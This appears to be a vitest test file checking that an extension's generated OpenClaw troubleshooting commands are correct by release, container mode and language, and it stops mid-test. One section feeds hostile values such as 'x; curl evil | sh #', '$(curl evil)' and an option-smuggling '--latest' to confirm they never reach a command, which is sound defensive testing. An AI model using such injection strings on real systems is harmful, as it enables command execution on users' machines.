import { describe, expect, it } from 'vitest';
import { plainText, type Rich } from './command-values';
import { buildFixGuides as buildWith, clientOf } from './fix-guide';
import { KINDS, lockoutTitle, type Lockout, type LockoutKind } from './lockout';
import { parseRelease } from './release';
import { translatorFor } from './test-i18n';

const en = await translatorFor('en');
/** The guides in English, whose words the expectations below quote. */
const buildFixGuides = (lockouts: Parameters<typeof buildWith>[0], ctx: Parameters<typeof buildWith>[1] = {}) => buildWith(lockouts, ctx, en);

const DEVICE_ID = 'a3f1'.repeat(16);
const ALL_KINDS = KINDS;

const INVENTED = /openclaw gateway token (rotate|status|reset)/;
const allCommands = (guides: ReturnType<typeof buildFixGuides>) =>
  guides.flatMap((g) => [...g.steps, ...g.notes]).flatMap((s) => (s.command ? [s.command] : []));

describe('buildFixGuides', () => {
  it('puts B before A when both show', () => {
    const guides = buildFixGuides([{ kind: 'device-token-mismatch' }, { kind: 'gateway-token-mismatch' }]);
    expect(guides.map((g) => g.title)).toEqual(['Gateway token mismatch', 'Device token mismatch']);
  });

  it('fills in the device id', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId: DEVICE_ID, release: parseRelease('2026.9.6') });
    expect(allCommands([guide!])).toContain(`openclaw devices rotate --device ${DEVICE_ID} --role operator`);
    expect(allCommands([guide!])).toContain(`openclaw devices remove ${DEVICE_ID}`);
  });

  it('leaves a placeholder when the device id is unknown', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'device-token-mismatch' }]));
    expect(commands).toContain('openclaw devices rotate --device <deviceId> --role operator');
  });

  it('shows auth-token --show only from 2026.8.2, and before it the config file (config get prints the token redacted)', () => {
    const newer = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }], { release: parseRelease('2026.9.6') }));
    expect(newer).toContain('openclaw gateway auth-token --show');
    expect(newer).not.toContain('openclaw config file');
    const older = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }], { release: parseRelease('2026.4.24') }));
    expect(older).not.toContain('openclaw gateway auth-token --show');
    expect(older).toContain('openclaw config file');
    const unknown = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }]));
    expect(unknown).toEqual(expect.arrayContaining(['openclaw gateway auth-token --show', 'openclaw config file']));
    // No guide prints the token through `config get`: both checked CLIs print `__OPENCLAW_REDACTED__` for it.
    for (const release of [null, parseRelease('2026.4.24'), parseRelease('2026.9.6')]) {
      const guides = buildFixGuides(ALL_KINDS.map((kind) => ({ kind })), { release });
      expect(allCommands(guides).join('\n')).not.toContain('config get gateway.auth.token');
      const file = guides.flatMap((g) => g.steps).find((step) => step.command === 'openclaw config file');
      if (file) expect(plainText(file.text)).toMatch(/gateway\.auth\.token.*__OPENCLAW_REDACTED__/);
    }
  });

  it('gives the Docker variant for B and warns about commands that do not exist', () => {
    const [guide] = buildFixGuides([{ kind: 'gateway-token-mismatch' }]);
    expect(allCommands([guide!])).toContain('docker compose down && docker compose up -d');
    expect(guide!.notes.map((n) => plainText(n.text)).join(' ')).toMatch(/OPENCLAW_GATEWAY_TOKEN/);
    expect(guide!.notes.map((n) => plainText(n.text)).join(' ')).toMatch(/no release has them/);
  });

  it('never offers a command that does not exist', () => {
    const kinds = ALL_KINDS;
    const guides = buildFixGuides(kinds.map((kind) => ({ kind })));
    expect(guides).toHaveLength(kinds.length);
    for (const command of allCommands(guides)) {
      expect(command).not.toMatch(INVENTED);
      // ssh: the tunnel for a page without a secure context runs on the user's own computer.
      expect(command).toMatch(/^(openclaw|docker compose|ssh) /);
    }
  });

  it('fills in the pairing request id', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: 'r-42' }]));
    expect(commands).toEqual(['openclaw devices approve r-42', 'openclaw devices approve r-42 --url ws://127.0.0.1:<port> --token <token>']);
  });

  it('says the stale token is already gone once cleared', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceTokenCleared: true });
    expect(plainText(guide!.steps[0]!.text)).toMatch(/^Done/);
  });
});


const HOSTILE = ['x; curl evil | sh #', '$(curl evil)', '`curl evil`', "x' ; curl evil ; '", 'x\ncurl evil', '--latest', 'a'.repeat(1024 * 1024)];

describe('page data never becomes a shell command', () => {
  it('a hostile device id never reaches a command', () => {
    for (const deviceId of [...HOSTILE, DEVICE_ID.toUpperCase(), `${DEVICE_ID};id`]) {
      const commands = allCommands(buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId, release: parseRelease('2026.9.6') }));
      expect(commands).toContain('openclaw devices rotate --device <deviceId> --role operator');
      expect(commands).toContain('openclaw devices remove <deviceId>');
      for (const command of commands) {
        expect(command).not.toContain('curl');
        expect(command).not.toContain(';');
        expect(command.length).toBeLessThan(200);
      }
    }
  });

  it('says where to find the device id when the page’s does not fit', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId: 'x; curl evil | sh #' });
    const rotate = guide!.steps.find((step) => step.command?.includes('devices rotate'))!;
    expect(rotate.text).toContainEqual({ code: 'openclaw devices list' });
  });

  it('a hostile pairing request id never reaches a command', () => {
    for (const requestId of HOSTILE) {
      const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId }]));
      expect(commands).toEqual([
        'openclaw devices approve <requestId>',
        'openclaw devices list',
        'openclaw devices approve <requestId> --url ws://127.0.0.1:<port> --token <token>',
      ]);
    }
  });

  it('an option-like request id cannot approve another device (`--latest`)', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: '--latest' }]));
    expect(commands.join('\n')).not.toContain('--latest');
  });

  it('keeps a UUID request id', () => {
    const id = '3f2b8c1e-9d4a-4e6b-8f7c-2a1b0c9d8e7f';
    expect(allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: id }]))).toEqual([
      `openclaw devices approve ${id}`,
      `openclaw devices approve ${id} --url ws://127.0.0.1:<port> --token <token>`,
    ]);
  });

  it('a hostile origin never reaches a command', () => {
    for (const origin of [...HOSTILE, `https://gw.example"]' ; curl evil ; echo '`, 'http://a;b$c', "http://a'b", 'https://gw.example/path', 'http://u:p@gw.example']) {
      const commands = allCommands(buildFixGuides([{ kind: 'origin-not-allowed' }], { origin }));
      expect(commands).toEqual([
        'openclaw config get gateway.controlUi.allowedOrigins',
        `openclaw config set gateway.controlUi.allowedOrigins '["<existingOrigin>","<origin>"]'`,
        `openclaw config set gateway.controlUi.allowedOrigins '["<origin>"]'`,
        'openclaw gateway restart',
      ]);
    }
  });

  it('no page value in any context reaches any command', () => {
    for (const value of HOSTILE) {
      const guides = buildFixGuides(
        ALL_KINDS.map((kind) => ({ kind, requestId: value })),
        { deviceId: value, origin: value, release: parseRelease('2026.9.6') },
      );
      for (const command of allCommands(guides)) expect(command).not.toContain(value.slice(0, 12));
    }
  });
});

describe('page data never becomes formatting', () => {
  it('guide text marks code only where the extension wrote backticks', () => {
    const guides = buildFixGuides(ALL_KINDS.map((kind) => ({ kind })));
    for (const guide of guides) {
      for (const text of [guide.cause, guide.when, ...guide.steps.map((s) => s.text), ...guide.notes.map((n) => n.text)]) {
        for (const segment of text) if (typeof segment === 'string') expect(segment).not.toContain('`');
      }
    }
  });
});

describe('parseRelease', () => {
  it.each([
    ['2026.9.6', '2026.9.6'],
    ['2026.9.6-release-abc', '2026.9.6'],
    ['v2026.1.30', '2026.1.30'],
  ])('%s', (text, expected) => {
    const r = parseRelease(text);
    expect(r && `${r.year}.${r.month}.${r.day}`).toBe(expected);
  });
  it.each(['', 'latest', '2026.9', null, undefined])('rejects %j', (text) => expect(parseRelease(text)).toBeNull());
});

describe('commands by release', () => {
  const commandsFor = (kind: 'device-token-mismatch' | 'origin-not-allowed', ctx: Parameters<typeof buildFixGuides>[1]) =>
    allCommands(buildFixGuides([{ kind }], ctx));
  it('offers `devices remove` only from 2026.3.24', () => {
    expect(commandsFor('device-token-mismatch', { release: parseRelease('2026.2.26') }).some((c) => c.includes('devices remove'))).toBe(false);
    expect(commandsFor('device-token-mismatch', { release: parseRelease('2026.4.24') }).some((c) => c.includes('devices remove'))).toBe(true);
  });
  it('fills in the dashboard origin to allow', () => {
    expect(commandsFor('origin-not-allowed', { origin: 'https://gw.example' })).toEqual([
      'openclaw config get gateway.controlUi.allowedOrigins',
      `openclaw config set gateway.controlUi.allowedOrigins '["<existingOrigin>","https://gw.example"]'`,
      `openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`,
      'openclaw gateway restart',
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// Remote setups: LAN, Tailscale, proxies, containers, SSH tunnels
// ---------------------------------------------------------------------------------------------

type Ctx = NonNullable<Parameters<typeof buildFixGuides>[1]>;
const R424 = parseRelease('2026.4.24');
const R96 = parseRelease('2026.9.6');
const COMPOSE = { kind: 'compose', service: 'openclaw-gateway' } as const;
const CONTAINER = { kind: 'container', name: 'oc1' } as const;
const guideOf = (kind: LockoutKind, ctx: Ctx, requestId?: string) => buildFixGuides([{ kind, ...(requestId ? { requestId } : {}) }], ctx)[0]!;
const commandsOf = (kind: LockoutKind, ctx: Ctx, requestId?: string) => allCommands([guideOf(kind, ctx, requestId)]);
const textOf = (guide: ReturnType<typeof guideOf>) => [guide.cause, guide.when, ...guide.steps.map((s) => s.text), ...guide.notes.map((n) => n.text)].map(plainText).join('\n');

describe('pairing required: approve on the gateway host, loopback fallback', () => {
  it.each([
    // [ctx, the fallback command's --url]
    [{}, 'ws://127.0.0.1:<port>'],
    [{ gatewayPort: 18789 }, 'ws://127.0.0.1:18789'],
    [{ gatewayPort: 19001, runMode: { kind: 'host' } }, 'ws://127.0.0.1:19001'],
    [{ gatewayPort: 0 }, 'ws://127.0.0.1:<port>'],
    [{ gatewayPort: 65536 }, 'ws://127.0.0.1:<port>'],
    [{ gatewayPort: 18789.5 }, 'ws://127.0.0.1:<port>'],
    [{ gatewayPort: Number.NaN }, 'ws://127.0.0.1:<port>'],
    [{ gatewayPort: '18789; curl evil' as never }, 'ws://127.0.0.1:<port>'],
    // Inside a container the gateway listens on the container's own port, which the page cannot show.
    [{ gatewayPort: 28789, runMode: COMPOSE }, 'ws://127.0.0.1:<port>'],
  ] as [Ctx, string][])('%j → %s', (ctx, url) => {
    const commands = commandsOf('pairing-required', ctx, 'r-42');
    expect(commands.at(-1)).toMatch(new RegExp(`openclaw devices approve r-42 --url ${url.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} --token <token>$`));
  });

  it('says the approval runs on the gateway’s host, or where its container runs', () => {
    expect(plainText(guideOf('pairing-required', {}, 'r-42').steps[0]!.text)).toMatch(/on the gateway’s host/);
    expect(plainText(guideOf('pairing-required', { runMode: COMPOSE }, 'r-42').steps[0]!.text)).toMatch(/machine that runs the gateway’s container/);
  });

  it('never suggests --latest, whatever the release', () => {
    for (const release of [null, R424, R96]) {
      for (const requestId of [undefined, 'r-42', '--latest']) {
        const guide = guideOf('pairing-required', { release }, requestId);
        expect(allCommands([guide]).join('\n')).not.toContain('--latest');
        expect(textOf(guide)).not.toContain('--latest');
      }
    }
  });
});

describe('origin not allowed: keep the origins already allowed', () => {
  it.each([
    // [release, the last step's command]
    [null, 'openclaw gateway restart'],
    [R424, 'openclaw gateway restart'],
    [R96, undefined],
  ])('release %j', (release, restart) => {
    const guide = guideOf('origin-not-allowed', { release, origin: 'http://192.168.1.5:18789' });
    expect(guide.steps.map((s) => s.command)).toEqual([
      'openclaw config get gateway.controlUi.allowedOrigins',
      `openclaw config set gateway.controlUi.allowedOrigins '["<existingOrigin>","http://192.168.1.5:18789"]'`,
      `openclaw config set gateway.controlUi.allowedOrigins '["http://192.168.1.5:18789"]'`,
      restart,
    ]);
    expect(plainText(guide.steps[1]!.text)).toMatch(/replaces the whole list/);
    if (!restart) expect(plainText(guide.steps[3]!.text)).toMatch(/without a restart/);
  });

  it('the merged list is JSON the CLI parses, page origin last', () => {
    const set = commandsOf('origin-not-allowed', { origin: 'https://gw.example:8443' })[1]!;
    const json = /'(\[.*\])'$/.exec(set)![1]!;
    expect(JSON.parse(json)).toEqual(['<existingOrigin>', 'https://gw.example:8443']);
  });

  it('names the page’s origin in the cause, only when it is one', () => {
    expect(guideOf('origin-not-allowed', { origin: 'https://gw.example' }).cause).toContainEqual({ code: 'https://gw.example' });
    expect(plainText(guideOf('origin-not-allowed', { origin: 'x; curl evil' }).cause)).not.toContain('curl');
  });

  it.each([
    [COMPOSE, 'docker compose up -d --force-recreate openclaw-gateway'],
    [CONTAINER, undefined],
  ] as const)('in %j, says an environment variable can override the config', (runMode, recreate) => {
    const guide = guideOf('origin-not-allowed', { runMode, origin: 'https://gw.example' });
    expect(guide.notes).toHaveLength(1);
    expect(plainText(guide.notes[0]!.text)).toMatch(/environment variable/);
    expect(plainText(guide.notes[0]!.text)).toMatch(/openclaw\.json alone does not stick/);
    expect(guide.notes[0]!.command).toBe(recreate);
  });

  it('has no container note on the host or with no run mode', () => {
    expect(guideOf('origin-not-allowed', { runMode: { kind: 'host' } }).notes).toEqual([]);
    expect(guideOf('origin-not-allowed', {}).notes).toEqual([]);
  });
});

describe('secure context: HTTPS or an SSH tunnel', () => {
  it.each([
    // [origin, gatewayPort, tunnel command, address to open]
    ['http://192.168.1.5:18789', null, 'ssh -N -L 18789:127.0.0.1:18789 <user>@192.168.1.5', 'http://127.0.0.1:18789/'],
    ['http://gw.lan:28789', 18789, 'ssh -N -L 28789:127.0.0.1:28789 <user>@gw.lan', 'http://127.0.0.1:28789/'],
    ['http://gw.lan', 18789, 'ssh -N -L 18789:127.0.0.1:18789 <user>@gw.lan', 'http://127.0.0.1:18789/'],
    ['http://gw.lan', null, 'ssh -N -L <port>:127.0.0.1:<port> <user>@gw.lan', 'http://127.0.0.1:<port>/'],
    // An https page's port is the proxy's, not the gateway's.
    ['https://gw.example:8443', null, 'ssh -N -L <port>:127.0.0.1:<port> <user>@gw.example', 'http://127.0.0.1:<port>/'],
    // IPv6 literals and loopback names are no host to tunnel to.
    ['http://[fe80::1]:18789', null, 'ssh -N -L 18789:127.0.0.1:18789 <user>@<host>', 'http://127.0.0.1:18789/'],
    ['http://localhost:18789', null, 'ssh -N -L 18789:127.0.0.1:18789 <user>@<host>', 'http://127.0.0.1:18789/'],
    ['http://127.0.0.1:18789', null, 'ssh -N -L 18789:127.0.0.1:18789 <user>@<host>', 'http://127.0.0.1:18789/'],
    [null, null, 'ssh -N -L <port>:127.0.0.1:<port> <user>@<host>', 'http://127.0.0.1:<port>/'],
    ['x; curl evil', 'x; curl evil', 'ssh -N -L <port>:127.0.0.1:<port> <user>@<host>', 'http://127.0.0.1:<port>/'],
    ["http://a'b", 70000, 'ssh -N -L <port>:127.0.0.1:<port> <user>@<host>', 'http://127.0.0.1:<port>/'],
  ] as [string | null, unknown, string, string][])('%s (gateway port %j)', (origin, gatewayPort, tunnel, open) => {
    const guide = guideOf('device-identity-required', { origin, gatewayPort: gatewayPort as number });
    expect(allCommands([guide])).toEqual([tunnel]);
    expect(guide.steps[2]!.text).toContainEqual({ code: open });
  });

  it('the tunnel runs on this computer: never in container form', () => {
    const commands = commandsOf('device-identity-required', { runMode: COMPOSE, origin: 'http://192.168.1.5:18789' });
    expect(commands).toEqual(['ssh -N -L 18789:127.0.0.1:18789 <user>@192.168.1.5']);
  });

  it.each([
    [null, true],
    [R424, true],
    [parseRelease('2026.8.2'), true],
    [R96, false],
  ])('names the insecure override and its risk for release %j: %s', (release, shown) => {
    const text = guideOf('device-identity-required', { release }).notes.map((n) => plainText(n.text)).join('\n');
    expect(text.includes('gateway.controlUi.dangerouslyDisableDeviceAuth')).toBe(shown);
    if (shown) {
      expect(text).toMatch(/not a fix/);
      expect(text).toMatch(/anyone who can reach the gateway/);
      expect(text).toMatch(/allowInsecureAuth does not help/);
    }
  });

  it('offers OpenClaw’s own Tailscale Serve only when the gateway is not in a container', () => {
    expect(plainText(guideOf('device-identity-required', {}).steps[0]!.text)).toMatch(/gateway\.tailscale\.mode serve/);
    expect(plainText(guideOf('device-identity-required', { runMode: COMPOSE }).steps[0]!.text)).not.toMatch(/gateway\.tailscale\.mode/);
  });
});

describe('containers: every command in the run mode’s form', () => {
  const contexts: [string, Ctx, RegExp][] = [
    ['compose', { runMode: COMPOSE }, /^(docker compose (exec openclaw-gateway openclaw |restart openclaw-gateway$|up -d --force-recreate openclaw-gateway$)|ssh )/],
    ['compose, custom service', { runMode: { kind: 'compose', service: 'gw' } }, /^(docker compose (exec gw openclaw |restart gw$|up -d --force-recreate gw$)|ssh )/],
    ['container', { runMode: CONTAINER }, /^(docker (exec -it oc1 openclaw |restart oc1$)|ssh )/],
    ['hostile service', { runMode: { kind: 'compose', service: '$(curl evil)' } }, /^(docker compose (exec <service> openclaw |restart <service>$|up -d --force-recreate <service>$)|ssh )/],
  ];
  it.each(contexts)('%s', (_label, ctx, shape) => {
    for (const release of [null, R424, R96]) {
      const guides = buildFixGuides(ALL_KINDS.map((kind) => ({ kind })), { ...ctx, release, deviceId: DEVICE_ID });
      const commands = allCommands(guides);
      expect(commands.length).toBeGreaterThan(10);
      for (const command of commands) for (const part of command.split(' && ')) expect(part).toMatch(shape);
      expect(commands.join('\n')).not.toContain('curl');
    }
  });

  it('turns `openclaw …` in a step’s text into the container form too', () => {
    const guide = guideOf('device-token-mismatch', { runMode: COMPOSE });
    const rotate = guide.steps.find((s) => s.command?.includes('devices rotate'))!;
    expect(rotate.text).toContainEqual({ code: 'docker compose exec openclaw-gateway openclaw devices list' });
  });

  it('leaves the notes’ examples of invented commands alone', () => {
    const guide = guideOf('gateway-token-mismatch', { runMode: COMPOSE });
    const invented = guide.notes.find((n) => plainText(n.text).includes('no release has them'))!;
    expect(invented.text).toContainEqual({ code: 'openclaw gateway token rotate' });
  });

  it.each(['gateway-token-mismatch', 'gateway-token-missing', 'gateway-token-not-configured'] as const)('%s: the environment variable and recreating the container', (kind) => {
    const compose = guideOf(kind, { runMode: COMPOSE });
    const note = compose.notes.find((n) => plainText(n.text).includes('OPENCLAW_GATEWAY_TOKEN'))!;
    expect(plainText(note.text)).toMatch(/editing openclaw\.json or restarting does not apply it/);
    expect(note.command).toBe('docker compose up -d --force-recreate openclaw-gateway');
    const container = guideOf(kind, { runMode: CONTAINER }).notes.find((n) => plainText(n.text).includes('OPENCLAW_GATEWAY_TOKEN'))!;
    expect(container.command).toBeUndefined();
    expect(plainText(container.text)).toMatch(/docker restart keeps the old environment/);
    // The generic Docker note only when the extension does not know how the gateway runs.
    expect(allCommands([guideOf(kind, {})])).toContain('docker compose down && docker compose up -d');
    expect(allCommands([guideOf(kind, { runMode: { kind: 'host' } })]).join('\n')).not.toContain('docker');
  });

  it('prints the dashboard link rather than opening a browser inside the container', () => {
    expect(commandsOf('gateway-token-missing', { runMode: COMPOSE })).toContain('docker compose exec openclaw-gateway openclaw dashboard --no-open');
    expect(commandsOf('setup-code-invalid', { runMode: CONTAINER })).toEqual(['docker exec -it oc1 openclaw dashboard --no-open']);
    expect(commandsOf('setup-code-invalid', { runMode: { kind: 'host' } })).toEqual(['openclaw dashboard']);
  });

  it('a run mode that is not one changes nothing', () => {
    for (const runMode of [{ kind: 'podman' }, 'compose', 42, { kind: '__proto__' }] as never[]) {
      expect(allCommands(buildFixGuides(ALL_KINDS.map((kind) => ({ kind })), { runMode }))).toEqual(allCommands(buildFixGuides(ALL_KINDS.map((kind) => ({ kind })))));
    }
  });
});

describe('localhost and 127.0.0.1 are separate origins', () => {
  const DEVICE_KINDS = ['device-token-mismatch', 'device-token-rejected', 'device-token-scope-mismatch'] as const;
  it.each([
    ['http://localhost:18789', 'http://localhost:18789', 'http://127.0.0.1:18789'],
    ['http://127.0.0.1:19001', 'http://localhost:19001', 'http://127.0.0.1:19001'],
    ['https://localhost:8443', 'https://localhost:8443', 'https://127.0.0.1:8443'],
    ['http://localhost', 'http://localhost', 'http://127.0.0.1'],
  ])('%s', (origin, localhost, loopback) => {
    for (const kind of DEVICE_KINDS) {
      const note = guideOf(kind, { origin }).notes.find((n) => plainText(n.text).startsWith('This browser keeps a separate token'));
      expect(note, kind).toBeTruthy();
      expect(note!.text).toContainEqual({ code: localhost });
      expect(note!.text).toContainEqual({ code: loopback });
    }
  });

  it.each(['http://192.168.1.5:18789', 'http://[::1]:18789', 'https://gw.example', 'x; curl evil', null])('no note for %j', (origin) => {
    for (const kind of DEVICE_KINDS) expect(textOf(guideOf(kind, { origin }))).not.toContain('separate token');
  });

  it('only on the device-token guides', () => {
    for (const kind of ALL_KINDS.filter((k) => !(DEVICE_KINDS as readonly string[]).includes(k))) {
      expect(textOf(guideOf(kind, { origin: 'http://localhost:18789' })), kind).not.toContain('separate token');
    }
  });
});

// ---------------------------------------------------------------------------------------------
// The CLI's own refusals, uncertain readings, and the pre-2026.8.2 token
// ---------------------------------------------------------------------------------------------

const guideText = (guide: ReturnType<typeof buildFixGuides>[number]) =>
  [guide.cause, guide.when, ...guide.steps.map((s) => s.text), ...guide.notes.map((n) => n.text)].map(plainText).join('\n');

describe('the CLI’s refusals get the CLI’s steps', () => {
  it.each(KINDS)('%s: never the browser’s clear, and always says this browser is not involved', (kind) => {
    for (const release of [null, R424, R96]) {
      const [guide] = buildFixGuides([{ kind, client: 'cli' }], { release, deviceId: DEVICE_ID });
      expect(guide!.client).toBe('cli');
      const text = guideText(guide!);
      expect(text).not.toMatch(/Clear stale device token/);
      expect(text).toMatch(/not this browser’s/);
      // The page's device id is this browser's, never the CLI's.
      expect(allCommands([guide!]).join('\n')).not.toContain(DEVICE_ID);
    }
  });

  it('device token mismatch: run again with the gateway’s token, and what the CLI keeps, by release', () => {
    const steps = (release: typeof R424) => buildFixGuides([{ kind: 'device-token-mismatch', client: 'cli' }], { release })[0]!.steps;
    expect(steps(R424)[0]!.command).toBe('openclaw devices list --token <token>');
    expect(steps(R424).map((s) => s.command)).toContain('openclaw config file');
    expect(steps(R96).map((s) => s.command)).toContain('openclaw gateway auth-token --show');
    expect(steps(R424).map((s) => plainText(s.text)).join('\n')).toContain('~/.openclaw/identity/device-auth.json');
    expect(steps(R96).map((s) => plainText(s.text)).join('\n')).toContain('~/.openclaw/state/openclaw.sqlite');
    const unknown = steps(null).map((s) => plainText(s.text)).join('\n');
    expect(unknown).toContain('~/.openclaw/identity/device-auth.json');
    expect(unknown).toContain('~/.openclaw/state/openclaw.sqlite');
  });

  it('gateway token mismatch with the CLI’s remote hint: gateway.remote.token must equal gateway.auth.token', () => {
    const [guide] = buildFixGuides([{ kind: 'gateway-token-mismatch', client: 'cli', hint: 'cli-remote' }], { release: R96 });
    expect(guide!.steps[0]!.command).toBe('openclaw config set gateway.remote.token <token>');
    expect(plainText(guide!.cause)).toMatch(/gateway\.remote\.token.*gateway\.auth\.token/);
  });

  it('in a container, the CLI’s note says the gateway reads openclaw.json first and the 2026.4.24 CLI the variable', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch', client: 'cli' }], { runMode: COMPOSE, release: R424 });
    const note = guide!.notes.find((n) => plainText(n.text).includes('OPENCLAW_GATEWAY_TOKEN'))!;
    expect(plainText(note.text)).toMatch(/gateway takes gateway\.auth\.token from openclaw\.json first .* 2026\.4\.24 CLI reads the variable first/);
    expect(note.command).toBe('docker compose up -d --force-recreate openclaw-gateway');
    expect(guide!.steps[0]!.command).toBe('docker compose exec openclaw-gateway openclaw devices list --token <token>');
  });

  it('pasted words the page and the CLI print alike get the page’s steps and a note for the CLI', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { source: 'unknown' });
    expect(guide!.client).toBe('unknown');
    expect(guide!.notes.map((n) => plainText(n.text)).join('\n')).toMatch(/Copied from a terminal\?.*--token <token>/);
  });

  it.each([
    [{}, undefined, 'browser'],
    [{ client: 'cli' }, undefined, 'cli'],
    [{}, 'cli', 'cli'],
    [{}, 'log', 'unknown'],
    [{ client: 'browser' }, 'cli', 'browser'],
    [{}, 'mixed', 'unknown'],
  ] as const)('clientOf(%j, %s) is %s', (lockout, source, client) => {
    expect(clientOf({ kind: 'unauthorized', ...lockout } as Lockout, source)).toBe(client);
  });

  it('the same kind from the page and the CLI is two guides, the page’s first', () => {
    const guides = buildFixGuides([{ kind: 'device-token-mismatch', client: 'cli' }, { kind: 'device-token-mismatch' }]);
    expect(guides.map((g) => [g.title, g.client])).toEqual([
      ['Device token mismatch', 'browser'],
      ['Device token mismatch', 'cli'],
    ]);
  });
});

describe('readings that change the steps', () => {
  it('an uncertain A: the gateway token first, the clear only if the right token is refused too', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' }]);
    expect(plainText(guide!.cause)).toMatch(/both are possible, and nothing was cleared automatically/);
    const texts = guide!.steps.map((s) => plainText(s.text));
    const clear = texts.findIndex((t) => t.includes('Clear stale device token'));
    const paste = texts.findIndex((t) => t.includes('Paste that token'));
    expect(paste).toBeGreaterThan(-1);
    expect(clear).toBeGreaterThan(paste);
  });

  it('A with no device token stored: nothing to clear, and on an unknown release the 2.17–2.21 reading is named', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' }], { deviceTokenStored: false });
    expect(plainText(guide!.steps[0]!.text)).toMatch(/^Nothing to clear/);
    expect(guide!.notes.map((n) => plainText(n.text)).join('\n')).toMatch(/2026\.2\.17 to 2026\.2\.21/);
  });

  it('B read from "device token mismatch" on 2026.2.17–2.21 says so', () => {
    const [guide] = buildFixGuides([{ kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' }], { release: parseRelease('2026.2.19') });
    expect(plainText(guide!.cause)).toMatch(/2026\.2\.17 to 2026\.2\.21/);
    expect(guide!.steps[0]!.command).toBe('openclaw config file');
  });

  it('inside a container the dashboard’s address is printed without a token, and the guide says so', () => {
    const link = guideOf('gateway-token-missing', { runMode: COMPOSE }).steps.find((s) => s.command?.endsWith('openclaw dashboard --no-open'))!;
    expect(plainText(link.text)).toMatch(/#token=<token>.*carries no token/);
  });
});

describe('a page the user has not added (read once through activeTab)', () => {
  const commands = (guides: ReturnType<typeof buildFixGuides>) => guides.flatMap((guide) => guide.steps.map((step) => step.command ?? '')).join('\n');

  it('its pairing request id never fills the approve command: it could be an attacker’s request', () => {
    const guides = buildFixGuides([{ kind: 'pairing-required', requestId: '7f3c9a1e-attacker-device' }], { untrustedPage: true });
    expect(commands(guides)).not.toContain('7f3c9a1e');
    expect(commands(guides)).toContain('openclaw devices approve <requestId>');
  });

  it('its origin is never offered for gateway.controlUi.allowedOrigins', () => {
    const guides = buildFixGuides([{ kind: 'origin-not-allowed' }], { origin: 'https://evil.example', untrustedPage: true });
    expect(commands(guides)).not.toContain('evil.example');
    expect(commands(guides)).toContain('<origin>');
  });

  it('on a dashboard the user added, the request id is filled in, with the check to make first', () => {
    const [guide] = buildFixGuides([{ kind: 'pairing-required', requestId: '7f3c9a1e-0000-4000-8000-000000000000' }], {});
    expect(guide!.steps[0]!.command).toBe('openclaw devices approve 7f3c9a1e-0000-4000-8000-000000000000');
    expect(JSON.stringify(guide!.steps[0]!.text)).toContain('openclaw devices list');
  });
});

// ---------------------------------------------------------------------------------------------
// Other languages: the same guides, every word translated, every command untouched
// ---------------------------------------------------------------------------------------------

describe('the guides in other languages', () => {
  type Guides = ReturnType<typeof buildWith>;
  /** The contexts the tests above use: releases, run modes, page facts, where the words came from. */
  const CONTEXTS: Ctx[] = [
    {},
    { release: R424 },
    { release: R96, deviceId: DEVICE_ID },
    { release: parseRelease('2026.2.19'), deviceTokenStored: false },
    { runMode: COMPOSE, release: R424 },
    { runMode: CONTAINER },
    { runMode: { kind: 'host' }, gatewayPort: 19001, origin: 'http://localhost:18789' },
    { origin: 'http://192.168.1.20:18789', gatewayPort: 18789, deviceTokenCleared: true },
    { origin: 'https://gw.example', untrustedPage: true },
    { source: 'cli', release: R96 },
    { source: 'unknown', runMode: COMPOSE },
  ];
  /** Every kind for the page and for the CLI, and the readings that pick other sentences. */
  const LOCKOUTS: Lockout[] = [
    ...ALL_KINDS.flatMap((kind): Lockout[] => [{ kind }, { kind, client: 'cli' }, { kind, requestId: 'req-1234' }]),
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true },
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    { kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' },
    { kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' },
    { kind: 'gateway-token-mismatch', client: 'cli', hint: 'cli-remote' },
    { kind: 'gateway-token-mismatch', client: 'cli', hint: 'client' },
    { kind: 'password-mismatch', client: 'cli', hint: 'cli-remote' },
  ];
  const textsOf = (guide: Guides[number]) => [guide.cause, guide.when, ...guide.steps.map((s) => s.text), ...guide.notes.map((n) => n.text)];
  const commandsOf = (guide: Guides[number]) => [...guide.steps, ...guide.notes].map((s) => s.command);
  const codesOf = (text: Rich) => text.flatMap((segment) => (typeof segment === 'string' ? [] : [segment.code])).sort();

  it.each(['de', 'ja', 'es', 'fr', 'zh_CN'] as const)('%s: every sentence translated and filled, every command and code span the English one', async (locale) => {
    const t = await translatorFor(locale);
    let compared = 0;
    for (const ctx of CONTEXTS) {
      for (const lockout of LOCKOUTS) {
        const english = buildWith([lockout], ctx, en);
        const translated = buildWith([lockout], ctx, t);
        expect(translated.map((g) => [g.kind, g.client])).toEqual(english.map((g) => [g.kind, g.client]));
        translated.forEach((guide, index) => {
          const where = `${locale} ${JSON.stringify(lockout)} ${JSON.stringify(ctx)}`;
          const englishGuide = english[index]!;
          expect(guide.title, where).toBe(lockoutTitle(guide.kind, t));
